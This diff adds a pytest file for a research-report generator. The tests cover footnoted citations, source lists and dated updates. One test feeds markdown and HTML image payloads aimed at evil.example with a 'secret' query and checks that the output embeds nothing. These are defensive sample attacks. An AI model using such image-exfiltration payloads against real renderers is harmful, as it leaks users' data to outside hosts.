@@ -1,0 +1,119 @@
+"""The document: footnotes that lead somewhere, updates that keep what was there, nothing that loads by itself."""
+
+import re
+from datetime import date
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from toolroll.kernel.conversation import AssistantBlock, AssistantMessage, Citation, ServerBlock, TextBlock
+from toolroll.packs.research.document import new_document, numbered, updated_document, written_text
+from toolroll.packs.search.sources import Source
+
+TODAY = date(2025, 3, 1)
+
+
+def source(number: int, url: str = "") -> Source:
+    url = url or f"https://example.com/{number}"
+    return Source(number=number, title=f"Page {number}", url=url, found_at="2025-03-01T10:00:00", hash="", by="tavily")
+
+
+def message(*blocks: AssistantBlock) -> AssistantMessage:
+    return AssistantMessage(blocks=blocks)
+
+
+def cited(text: str, number: int) -> TextBlock:
+    return TextBlock(text=text, citations=(Citation(url=f"https://example.com/{number}"),))
+
+
+SEARCH = ServerBlock(kind="result", tool="web_search", summary="")
+
+
+def test_R12_what_is_cited_gets_its_mark_and_talk_before_the_title_goes() -> None:
+    wrote = message(
+        TextBlock(text="Let me look."),
+        SEARCH,
+        TextBlock(text="# Tea\n\n"),
+        cited("It grows. ", 2),
+        TextBlock(text="End."),
+    )
+    assert written_text(wrote, [source(1), source(2)]) == "# Tea\n\nIt grows.[^2] End."
+
+
+def test_R12_a_long_part_before_a_title_is_no_talk() -> None:
+    long = "x" * 1_001
+    assert written_text(message(TextBlock(text=f"{long}\n# Later")), ()) == f"{long}\n# Later"
+    assert written_text(message(TextBlock(text="no title")), ()) == "no title"
+
+
+def test_R12_sources_are_footnotes_where_the_text_leads_to_them_and_links_where_not() -> None:
+    made = new_document("Tea", "# Tea\n\nIt grows.[^2]", [source(1), source(2)])
+    assert made == (
+        "# Tea\n\nIt grows.[^2]\n\n## Sources\n\n"
+        "- [Page 1](<https://example.com/1>), found 2025-03-01\n\n"
+        "[^2]: [Page 2](<https://example.com/2>), found 2025-03-01\n"
+    )
+    only = new_document("Tea", "# Tea\n\nIt grows.[^2]", [source(2)])
+    assert "## Sources\n\n[^2]:" in only
+
+
+def test_R22_a_document_has_a_title_and_says_when_it_is_not_whole() -> None:
+    assert new_document("Tea for\nall", "Words.", ()) == "# Tea for all\n\nWords.\n"
+    assert new_document("Tea", "# Own", (), note="> Incomplete: x") == "# Own\n\n> Incomplete: x\n"
+
+
+def test_R12_marks_that_lead_nowhere_and_second_notes_go() -> None:
+    text = "A [^1] b [^7]. `[^8]` \n\n```\n[^9]\n```\nOwn[^5].\n\n[^1]: made up\n[^5]: my note"
+    made = new_document("T", text, [source(1)])
+    assert "A [^1] b. `[^8]`" in made
+    assert "[^9]" in made
+    assert "made up" not in made
+    assert "[^5]: my note" in made
+    assert made.count("[^1]:") == 1
+
+
+def test_R23_an_update_keeps_what_was_there_and_has_numbers_of_its_own() -> None:
+    before = new_document("Tea", "# Tea\n\nOld.[^1]", [source(1, "https://old.example/")])
+    sources = numbered([source(1)], after=before)
+    assert [one.number for one in sources] == [2]
+    after = updated_document(before, "# Tea again\n\nNew.[^2] As said.[^1]", sources, today=TODAY)
+    assert after.startswith(before.rstrip())
+    added = after[len(before.rstrip()) :]
+    assert added == (
+        "\n\n## Update - 2025-03-01\n\nNew.[^2] As said.[^1]\n\n### Sources\n\n"
+        "[^2]: [Page 1](<https://example.com/1>), found 2025-03-01\n"
+    )
+
+
+def test_R23_an_update_that_is_only_a_title_is_not_empty() -> None:
+    assert updated_document("# A", "# Nothing new", (), today=TODAY).endswith(
+        "## Update - 2025-03-01\n\n# Nothing new\n"
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/?q=secret)",
+        "![x][1]\n\n[1]: https://evil.example/?q=secret",
+        '<img src="https://evil.example/?q=secret">',
+        "< p><IMG\nsrc=https://evil.example/>",
+        "<picture><source srcset=https://evil.example/></picture>",
+        "!![x](https://evil.example/)",
+        "`![x](https://evil.example/)`",
+        "~~~\n```\n~~~\n![x](https://evil.example/)\n```",
+    ],
+)
+def test_XL14_a_document_loads_nothing_when_it_is_shown(text: str) -> None:
+    for made in (new_document("T", text, ()), updated_document("# A", text, (), today=TODAY)):
+        assert not re.search(r"!\[|<(img|picture|source)\b", made, re.IGNORECASE)
+        assert "evil.example" in made, "a person still sees where it would have led"
+
+
+@given(st.text(min_size=1).filter(str.strip), st.text())
+def test_R23_whatever_is_written_nothing_is_lost_and_nothing_empty(text: str, before: str) -> None:
+    assert new_document("T", text, ()).strip()
+    after = updated_document(before, text, (), today=TODAY)
+    assert after.startswith(before.rstrip())
+    assert "## Update - 2025-03-01" in after
